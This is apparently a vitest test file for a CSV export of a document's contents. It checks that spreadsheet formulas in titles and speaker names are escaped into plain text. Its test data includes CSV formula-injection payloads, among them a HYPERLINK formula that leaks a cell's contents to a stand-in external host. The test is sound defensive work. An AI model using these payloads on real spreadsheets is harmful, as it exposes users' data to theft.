import { describe, expect, it } from 'vitest';
import type { PagedContentsEntry } from '../../src/api/pipeline.js';
import { formatContents } from '../../src/export/contents.js';

/** The cells of a CSV file as a spreadsheet reads them (RFC 4180: quoted fields, doubled quotes). */
function cells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const source = text.replace(/^\uFEFF/, '');
  for (let index = 0; index < source.length; index++) {
    const char = source[index] as string;
    if (quoted) {
      if (char === '"' && source[index + 1] === '"') (field += '"'), index++;
      else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') row.push(field), (field = '');
    else if (char === '\r' && source[index + 1] === '\n') rows.push([...row, field]), (row = []), (field = ''), index++;
    else field += char;
  }
  return rows;
}

describe('point 5: the contents as CSV carry no formula', () => {
  it('a title or speaker starting with = + - @ tab or CR is written as text, not a formula', async () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"点击")', '@SUM(1+1)', '+1+2', '-2+3', '\t=1+1', '\r=1+1'];
    const entries = hostile.map(
      (text, index): PagedContentsEntry =>
        ({
          anchor: `d${index}`,
          title: text,
          speaker: index === 1 ? '@SUM(A1:A9)' : '张三',
          kind: 'report',
          file: `/x/0${index}-report.md`,
          page: index + 3,
        }) as PagedContentsEntry,
    );
    const text = (await formatContents(entries, 'csv', { cwd: '/x', title: '公报' })) as string;
    const rows = cells(text).slice(1);
    for (const [index, row] of rows.entries()) {
      for (const cell of [row[0], row[1]] as string[]) expect(cell, `row ${index}`).not.toMatch(/^[=+\-@\t\r]/);
      // The text is all there, after the quote that makes it text.
      expect(row[0]).toBe(`'${hostile[index]}`);
      expect(row[3]).toBe(String(index + 3));
    }
    expect(rows[1]?.[1]).toBe("'@SUM(A1:A9)");
  });
});
